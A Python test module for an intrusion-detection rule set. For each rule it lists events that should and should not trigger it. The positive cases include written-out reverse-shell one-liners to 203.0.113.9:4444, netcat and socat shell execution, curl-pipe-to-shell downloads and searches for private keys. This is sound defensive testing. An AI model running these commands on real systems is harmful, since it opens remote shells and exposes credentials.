"""Credentials, people, shells and code: of each rule, events that it must tell and events close by that it must not."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from lichen_guard.event import Event

from .rule_actors import (
    BOX,
    CRON,
    DROPPED,
    NGINX,
    PERSON,
    PERSONS_BOX,
    PYTHON,
    ROOT,
    SCRIPT,
    by,
    moved,
    ran,
    touches,
    unix,
)
from .rule_scene import connects, happens, process

CAP_NET_RAW = 1 << 13


def gains(program: str, *, new_uid: int = 0, uid: int = 0, new_gid: int = 1000, gained: int = 0, **more: Any) -> Event:
    """A person starts a program whose file brings rights."""
    brought = {"old_uid": 1000, "new_uid": new_uid, "old_gid": 1000, "new_gid": new_gid, "gained": gained, **more}
    return replace(ran(program, parent=PERSON, uid=uid), **brought)


ROWS: dict[str, tuple[list[Event], list[Event]]] = {
    "Read sensitive file untrusted": (
        [touches("/etc/shadow", by("cat"), "r"), touches("/etc/sudoers.d/a", by("vi", parent=BOX), "r")],
        [
            touches("/etc/shadow", by("/usr/sbin/unix_chkpwd"), "r"),
            touches("/etc/shadow", process("systemd-userwor", exe="/usr/lib/systemd/systemd-userwork"), "r"),
            touches("/etc/shadow", by("cat", parent=SCRIPT), "r"),
            touches("/etc/shadow", by("/usr/bin/aide"), "r"),
            touches("/etc/shadowy", by("cat"), "r"),
            touches("/etc/sudoers.d", by("ls"), "folder"),
            touches("/etc/passwd", by("cat"), "r"),
        ],
    ),
    "Search private keys or passwords": (
        [ran("grep", "-r", "BEGIN RSA PRIVATE", "/"), ran("find", "/", "-name", "id_rsa")],
        [ran("grep", "-r", "TODO", "."), ran("find", "/", "-name", "*.py")],
    ),
    "Private SSH key read": (
        [touches("/home/ann/.ssh/id_ed25519", by("cat"), "r")],
        [
            touches("/home/ann/.ssh/id_ed25519", by("ssh"), "r"),
            touches("/home/ann/.ssh/id_ed25519.pub", by("cat"), "r"),
        ],
    ),
    "Memory or environment of a process read": (
        [touches("/proc/77/mem", PYTHON, "rw"), touches("/proc/77/environ", by("cat"), "r")],
        [
            touches("/proc/77/environ", by("ps"), "r"),
            touches("/proc/77/cmdline", by("cat"), "r"),
            touches("/home/mem", by("cat"), "r"),
        ],
    ),
    "Account or privilege files changed": (
        [touches("/etc/passwd", by("vi")), moved("/tmp/x", "/etc/shadow"), touches("/etc/sudoers.d/ann", by("tee"))],
        [
            moved("/etc/passwd+", "/etc/passwd", by("/usr/sbin/useradd")),
            touches("/etc/group", by("cat"), "r"),
            touches("/etc/passwd", SCRIPT),
            moved("/etc/.#passwd", "/etc/passwd", process("systemd-sysusers", exe="/usr/bin/systemd-sysusers")),
        ],
    ),
    "User added or given more rights": (
        [ran("useradd", "-m", "eve", parent=ROOT), ran("usermod", "-aG", "sudo", "eve", parent=ROOT)],
        [ran("useradd", "-r", "daemon", parent=SCRIPT), ran("id", "eve")],
    ),
    "Root rights without su": (
        [
            happens("setuid", PYTHON, old_uid=1000, new_uid=0),
            gains("/tmp/shell"),
            gains("/usr/bin/dash"),
        ],
        [
            happens("setuid", by("sudo"), old_uid=1000, new_uid=0),
            happens("setuid", process("sshd-session", exe="/usr/lib/openssh/sshd-session"), old_uid=1000, new_uid=0),
            happens("setuid", CRON, old_uid=0, new_uid=1000),
            happens("setuid", PYTHON, old_uid=0, new_uid=0),
            gains("/usr/bin/su"),
            gains("/usr/bin/sudo"),
            gains("/usr/bin/passwd"),
            gains("/usr/bin/newgrp"),
            gains("/usr/bin/mount"),
            gains("/usr/bin/umount"),
            gains("/usr/bin/fusermount3"),
            gains("/usr/bin/pkexec"),
            gains("/usr/lib/openssh/ssh-keysign"),
            gains("/usr/lib/dbus-1.0/dbus-daemon-launch-helper"),
            gains("/usr/lib/polkit-1/polkit-agent-helper-1"),
            gains("/usr/bin/ping", old_uid=1000, new_uid=1000, gained=CAP_NET_RAW),
            ran("/tmp/shell", parent=ROOT),
            ran("/tmp/shell"),
        ],
    ),
    "Root rights from nowhere": (
        [
            happens("setuid", PYTHON, old_uid=1000, new_uid=0, unexplained=True),
            happens("setuid", by("sudo"), old_uid=1000, new_uid=0, unexplained=True),
        ],
        [happens("setuid", PYTHON, old_uid=1000, new_uid=0), gains("/tmp/shell")],
    ),
    "Rights from an unusual file": (
        [
            gains("/usr/bin/python3.13", new_uid=1000, uid=1000, gained=1 << 7),
            gains("/tmp/shell", new_uid=1000, uid=1000, new_gid=42),
        ],
        [
            gains("/usr/bin/ping", new_uid=1000, uid=1000, gained=CAP_NET_RAW),
            gains("/usr/bin/chage", new_uid=1000, uid=1000, new_gid=42),
            gains("/tmp/shell", gained=1 << 7),
            ran("/tmp/shell"),
        ],
    ),
    "SSH keys of a person changed": (
        [touches("/root/.ssh/authorized_keys", by("tee")), moved("/tmp/k", "/home/ann/.ssh/authorized_keys")],
        [
            touches("/root/.ssh/authorized_keys", by("sshd", exe="/usr/sbin/sshd"), "r"),
            touches("/root/.ssh/known_hosts", by("ssh")),
        ],
    ),
    "Shell started by a server": (
        [
            ran("sh", "-c", "id", exe="/usr/bin/dash", parent=NGINX),
            ran("bash", parent=by("php-fpm8.4", exe="/usr/sbin/php-fpm8.4")),
        ],
        [
            ran("nginx", "-t", parent=NGINX),
            ran("sh", "-c", "id", exe="/usr/bin/dash", parent=CRON),
            ran("sh", "-c", "cp pg_wal/1 /b", exe="/usr/bin/dash", parent=by("postgres")),
        ],
    ),
    "Shell in a container": (
        [ran("bash", parent=BOX, tty=34820), ran("bash", parent=PERSONS_BOX, tty=34820)],
        [ran("bash", "-c", "true", parent=BOX), ran("bash", parent=PERSON, tty=34820)],
    ),
    "Reverse shell": (
        [connects(by("bash"), "203.0.113.9", 4444)],
        [
            connects(by("curl"), "203.0.113.9"),
            connects(by("bash"), "127.0.0.1"),
            unix(by("bash"), "/run/systemd/notify"),
        ],
    ),
    "Shell bound to a connection by its arguments": (
        [
            ran("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            ran("python3", "-c", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"),
        ],
        [ran("python3", "-c", "import socket; print(socket.gethostname())"), ran("grep", "/dev/tcp/", "notes.txt")],
    ),
    "Netcat runs a program": (
        [ran("nc", "-e", "/bin/sh", "203.0.113.9", "4444"), ran("socat", "TCP-LISTEN:1", "EXEC:/bin/sh")],
        [ran("nc", "-z", "localhost", "22"), ran("bash", "-e", "script")],
    ),
    "Download run at once": (
        [ran("bash", "-c", "curl -s http://203.0.113.9/x | sh"), ran("sh", "-c", "wget -qO- http://a |bash")],
        [ran("bash", "-c", "curl -sO http://a/x.tar"), ran("curl", "http://a/| sh")],
    ),
    "Encoded command run": (
        [ran("sh", "-c", "echo aWQ= | base64 -d | sh")],
        [ran("sh", "-c", "base64 -d key.b64 > key"), ran("base64", "-d")],
    ),
    "Fileless execution": (
        [
            ran("x", exe="/memfd:x", in_memory=True),
            ran("sh", exe="/usr/bin/dash (deleted)", in_memory=True),
            # Anybody can call a file in memory so.
            ran("x", exe="/memfd:runc_cloned:/proc/self/exe", in_memory=True),
            ran("x", exe="/memfd:crun", in_memory=True),
        ],
        [ran("runc", "init", exe="/memfd:runc_cloned:/proc/self/exe", in_memory=True, parent=ROOT), ran("x")],
    ),
    "Program run from an open folder": (
        [
            ran("/tmp/x"),
            ran("/dev/shm/x"),
            ran("sh", exe="/usr/bin/dash", script="/var/tmp/go.sh"),
            ran("/run/user/1000/x"),
        ],
        [ran("/usr/bin/ls", "/tmp"), ran("/tmp/conf.d/x", parent=SCRIPT), ran("/tmpfoo/x")],
    ),
    "Attack tool started": (
        [ran("hashcat", "-m", "0"), ran("sh", exe="/usr/bin/dash", script="/home/ann/linpeas.sh")],
        [ran("python3", "john.py")],
    ),
    "Process traced": (
        [happens("ptrace", PYTHON, target_pid=7), happens("ptrace", DROPPED, target_pid=1)],
        [happens("ptrace", by("gdb"), target_pid=7), happens("ptrace", by("strace"), target_pid=7)],
    ),
}
